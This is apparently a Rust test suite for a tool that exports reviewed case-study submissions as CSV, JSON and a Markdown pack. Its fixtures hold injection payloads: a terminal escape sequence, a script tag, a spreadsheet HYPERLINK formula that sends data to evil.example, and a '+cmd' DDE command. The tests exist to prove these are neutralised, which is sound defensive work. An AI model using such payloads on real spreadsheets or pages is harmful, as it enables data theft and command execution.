    assert_eq!(case(list, "stale.md")["title"], "Stale");
    for name in ["greedy.review.toml", "stale.review.toml"] {
        assert!(
            r.err
                .lines()
                .any(|l| l.contains(name) && l.contains("exported anyway")),
            "{name}: {}",
            r.err
        );
    }
    assert!(!r.err.contains("skipped"), "{}", r.err);
}

#[test]
fn collect_separates_entries_and_problems() {
    let tmp = troubled_batch();
    let tax = Taxonomy::builtin();
    let batch = Batch::load(tmp.path(), &tax).expect("load");
    let (entries, problems) = collect(&batch, &tax, &[Decision::Approve], false);
    let sources: Vec<&str> = entries.iter().map(|e| e.source.as_str()).collect();
    assert_eq!(sources, ["good.md"]);
    assert!(problems.len() >= 2, "{problems:?}");
    assert!(problems.iter().all(|p| p.message.starts_with("skipped: ")));

    let (entries, problems) = collect(&batch, &tax, &[Decision::Approve], true);
    let sources: Vec<&str> = entries.iter().map(|e| e.source.as_str()).collect();
    assert_eq!(sources, ["good.md", "greedy.md", "stale.md"]);
    assert!(
        problems
            .iter()
            .all(|p| p.message.starts_with("exported anyway"))
    );
}

#[test]
fn unreadable_submission_is_skipped_even_with_force() {
    let tmp = troubled_batch();
    let d = tmp.path();
    let bytes = b"+++\ntitle = \"Bad\"\n+++\nbroken \xff text\n";
    fs::write(d.join("bad.md"), bytes).expect("write");
    write_record(
        d,
        "bad.md",
        &sha256_hex(bytes),
        "decision = \"approve\"\nprimary_category = \"community\"\n",
    );
    let mut o = opts(Format::Csv);
    o.force = true;
    let r = run(d, &o);
    assert_eq!(r.code, 1, "{}", r.err);
    assert!(
        r.err
            .lines()
            .any(|l| l.contains("bad.md") && l.contains("skipped")),
        "{}",
        r.err
    );
    assert!(!r.out.contains("bad.md"), "{}", r.out);
}

#[test]
fn decision_needs_info_selects_only_that_one() {
    let tmp = fixed_batch();
    let mut o = opts(Format::Json);
    o.decisions = vec![Decision::NeedsInfo];
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 0, "{}", r.err);
    let v: serde_json::Value = serde_json::from_str(&r.out).expect("JSON");
    assert_eq!(v["count"], 1);
    assert_eq!(v["case_studies"][0]["source"], "housing.md");
    assert_eq!(v["case_studies"][0]["decision"], "needs-info");
}

#[test]
fn decisions_parse_from_the_command_line_words() {
    assert_eq!(export::parse_decision("approve"), Ok(Decision::Approve));
    assert_eq!(
        export::parse_decision("needs-info"),
        Ok(Decision::NeedsInfo)
    );
    assert_eq!(export::parse_decision("decline"), Ok(Decision::Decline));
    let e = export::parse_decision("maybe").expect_err("unknown");
    assert!(e.contains("approve, needs-info, decline"), "{e}");
}

// ---------------------------------------------------------------------------
// Output files
// ---------------------------------------------------------------------------

#[test]
fn output_file_is_written_and_stdout_stays_empty() {
    let tmp = fixed_batch();
    let out_dir = tempfile::tempdir().expect("out dir");
    let target = out_dir.path().join("export.csv");
    fs::write(&target, "old contents").expect("pre-existing file");
    let mut o = opts(Format::Csv);
    o.output = Some(target.clone());
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 0, "{}", r.err);
    assert_eq!(r.out, "");
    assert!(r.err.contains("exported to"), "{}", r.err);

    let written = fs::read_to_string(&target).expect("written");
    let to_stdout = run(tmp.path(), &opts(Format::Csv));
    assert_eq!(written, to_stdout.out);
    // replaced atomically: no temporary file left beside it
    let names: Vec<String> = fs::read_dir(out_dir.path())
        .expect("list")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["export.csv"]);
}

#[test]
fn dash_means_stdout() {
    let tmp = fixed_batch();
    let mut o = opts(Format::Pack);
    o.output = Some(PathBuf::from("-"));
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 0, "{}", r.err);
    assert!(r.out.starts_with("# CCIN Case Studies Pack\n"), "{}", r.out);
    assert!(!Path::new("-").exists());
}

#[test]
fn io_errors_exit_2() {
    let tmp = fixed_batch();
    let r = run(&tmp.path().join("missing"), &opts(Format::Csv));
    assert_eq!(r.code, 2, "{}", r.err);

    let mut o = opts(Format::Csv);
    o.output = Some(tmp.path().join("no/such/folder/export.csv"));
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 2, "{}", r.err);
    assert!(r.err.contains("cannot write"), "{}", r.err);
}

#[test]
fn writing_a_pack_into_the_batch_folder_warns() {
    let tmp = fixed_batch();
    let mut o = opts(Format::Pack);
    o.output = Some(tmp.path().join("pack.md"));
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 0, "{}", r.err);
    assert!(r.err.contains("will be read as a submission"), "{}", r.err);
    // every format the batch reads, not only Markdown and text
    for name in ["pack.html", "pack.HTM", "export.eml"] {
        o.output = Some(tmp.path().join(name));
        let r = run(tmp.path(), &o);
        assert!(
            r.err.contains("will be read as a submission"),
            "{name}: {}",
            r.err
        );
    }
    o.output = Some(tmp.path().join("export.csv"));
    let r = run(tmp.path(), &o);
    assert!(!r.err.contains("will be read as a submission"), "{}", r.err);
}

#[test]
fn export_for_ui_writes_pack_and_csv() {
    let tmp = fixed_batch();
    let out_dir = tempfile::tempdir().expect("out dir");
    let target = out_dir.path().join("exports");
    let tax = Taxonomy::builtin();
    let batch = Batch::load(tmp.path(), &tax).expect("load");
    let (paths, skipped) = export_for_ui(&batch, &tax, &target, "batch").expect("written");
    assert!(skipped.is_empty(), "{skipped:?}");
    assert_eq!(
        paths,
        [
            target.join("batch-pack.md"),
            target.join("batch-case-studies.csv")
        ]
    );
    // never into the batch itself, where the pack would become a submission
    assert!(export_for_ui(&batch, &tax, tmp.path(), "batch").is_err());
    let (entries, _) = collect(&batch, &tax, &[Decision::Approve], false);
    assert_eq!(entries.len(), 2);
    assert_eq!(
        fs::read_to_string(&paths[0]).expect("pack"),
        to_pack(&entries, &tax, PackText::Full)
    );
    assert_eq!(
        fs::read_to_string(&paths[1]).expect("csv"),
        to_csv(&entries, false, false)
    );
}

// ---------------------------------------------------------------------------
// Untrusted text
// ---------------------------------------------------------------------------

#[test]
fn markdown_and_control_characters_in_submissions_render_literally() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let d = tmp.path();
    let body = "+++\ntitle = \"*Ouch* [link](x) # not a heading\"\nlead_member = \"Evil\\u001b]0;PWNED\\u0007 Council <b>\"\nparticipating_members = [\"@cite_me\", \"A\\u202eB\"]\nstatus = \"`code` $math$\"\n+++\n1. Not a list, just a sentence with <script>alert(1)</script> in it.\n";
    write_case(
        d,
        "hostile.md",
        body,
        Some(
            "decision = \"approve\"\nprimary_category = \"community\"\nprinciples = [\"innovation\"]\nvalues = [\"solidarity\", \"democracy\", \"equity\"]\nnote = \"bell\\u0007 here\"\n",
        ),
    );
    let mut o = opts(Format::Pack);
    o.pack_text = PackText::Excerpt;
    let pack = run(d, &o);
    assert_eq!(pack.code, 0, "{}", pack.err);
    assert!(
        pack.out
            .contains("### \\*Ouch\\* \\[link\\](x) \\# not a heading\n"),
        "{}",
        pack.out
    );
    assert!(
        pack.out
            .contains("- **Lead member:** Evil\\]0;PWNED Council \\<b\\>\n"),
        "{}",
        pack.out
    );
    assert!(
        pack.out
            .contains("- **Participating members:** \\@cite\\_me, AB\n"),
        "{}",
        pack.out
    );
    assert!(
        pack.out
            .contains("- **Programme:** \\`code\\` \\$math\\$\n"),
        "{}",
        pack.out
    );
    // the excerpt's list marker and tags do not survive as Markdown
    assert!(
        pack.out
            .contains("\nNot a list, just a sentence with alert(1) in it.\n"),
        "{}",
        pack.out
    );
    // the whole text keeps the body's list, its tags escaped
    o.pack_text = PackText::Full;
    let full = run(d, &o);
    assert!(
        full.out.contains(
            "\n1. Not a list, just a sentence with \\<script\\>alert(1)\\</script\\> in it.\n"
        ),
        "{}",
        full.out
    );
    o.include_note = true;
    for format in [Format::Csv, Format::Json, Format::Pack] {
        o.format = format;
        let r = run(d, &o);
        assert!(
            !r.out
                .chars()
                .any(|c| (c.is_control() && c != '\n' && c != '\r') || c == '\u{202e}'),
            "{format:?}: {:?}",
            r.out
        );
    }
}

#[test]
fn pack_groups_by_primary_category_in_taxonomy_order() {
    let tax = Taxonomy::builtin();
    let entry = |title: &str, primary: Option<&str>| CaseStudy {
        title: title.into(),
        fields: Default::default(),
        source: format!("{title}.md"),
        decision: "approve".into(),
        primary_category: primary.map(String::from),
        categories: vec![],
        principles: vec![],
        values: vec![],
        note: None,
        reviewer: None,
        reviewed_at: None,
        excerpt: String::new(),
        body: String::new(),
        body_is_markdown: true,
    };
    let entries = [
        entry("Y", Some("Young People")),
        entry("C", Some("Climate Change and Environment")),
        entry("U", None),
        entry("Z", Some("space-travel")),
        entry("H", Some("Housing")),
    ];
    let pack = to_pack(&entries, &tax, PackText::Full);
    let headings: Vec<&str> = pack.lines().filter(|l| l.starts_with("## ")).collect();
    assert_eq!(
        headings,
        [
            "## Climate Change and Environment",
            "## Housing",
            "## Young People",
            "## space-travel",
            "## Uncategorised"
        ]
    );
    assert!(pack.contains("5 case studies"), "{pack}");
    assert_eq!(
        to_pack(&[], &tax, PackText::Full),
        "# CCIN Case Studies Pack\n\nNo case studies to show.\n"
    );
}

// ---------------------------------------------------------------------------
// Spreadsheet formulas
// ---------------------------------------------------------------------------

const FORMULA_TITLE: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
const FORMULA_LEAD: &str = "+cmd|' /C calc'!A0";

/// A submission whose every free-text field starts like a spreadsheet
/// formula, and a record with an unknown category exported with `--force`.
fn formula_batch() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().expect("tempdir");
    let front = format!(
        "+++\ntitle = {FORMULA_TITLE:?}\nlead_member = {FORMULA_LEAD:?}\n\
         participating_members = [\"-2+3\", \"@SUM(1+1)\"]\nstatus = \"=1+1\"\n+++\n"
    );
    let body = format!("{front}@SUM(A1:A9) is where the excerpt starts.\n");
    write_case(
        tmp.path(),
        "formulas.md",
        &body,
        Some(
            "decision = \"approve\"\nprimary_category = \"=cmd\"\ncategories = [\"-x\"]\n\
             principles = [\"innovation\"]\nvalues = [\"solidarity\", \"democracy\", \"equity\"]\n\
             note = \"=1+2\\nsecond line\"\nreviewer = \"@evil\"\nreviewed_at = \"-1\"\n",
        ),
    );
    tmp
}

fn formula_export(raw_cells: bool) -> (Run, Vec<csv::StringRecord>) {
    let tmp = formula_batch();
    let mut o = opts(Format::Csv);
    o.include_note = true;
    o.force = true;
    o.raw_cells = raw_cells;
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 0, "{}", r.err);
    let rows = csv::Reader::from_reader(r.out.as_bytes())
        .records()
        .map(|r| r.expect("record"))
        .collect();
    (r, rows)
}

#[test]
fn csv_cells_never_start_a_formula_by_default() {
    let (r, rows) = formula_export(false);
    assert_eq!(rows.len(), 1);
    for cell in &rows[0] {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would run in a spreadsheet"
        );
    }
    let row = &rows[0];
    assert_eq!(&row[0], format!("'{FORMULA_TITLE}"));
    assert_eq!(&row[1], format!("'{FORMULA_LEAD}"));
    // Only a cell's start matters: the second member is joined after "; ".
    assert_eq!(&row[2], "'-2+3; @SUM(1+1)");
    assert_eq!(&row[4], "'=1+1");
    assert_eq!(&row[7], "'=cmd");
    assert_eq!(&row[13], "'=1+2\nsecond line");
    assert_eq!(&row[14], "'@evil");
    assert_eq!(&row[16], "'@SUM(A1:A9) is where the excerpt starts.");
    assert_golden("export-formulas.csv", &r.out);
}

#[test]
fn raw_cells_keep_the_exact_text() {
    let (r, rows) = formula_export(true);
    let row = &rows[0];
    assert_eq!(&row[0], FORMULA_TITLE);
    assert_eq!(&row[1], FORMULA_LEAD);
    assert_eq!(&row[2], "-2+3; @SUM(1+1)");
    assert_eq!(&row[13], "=1+2\nsecond line");
    assert_golden("export-formulas-raw.csv", &r.out);
}
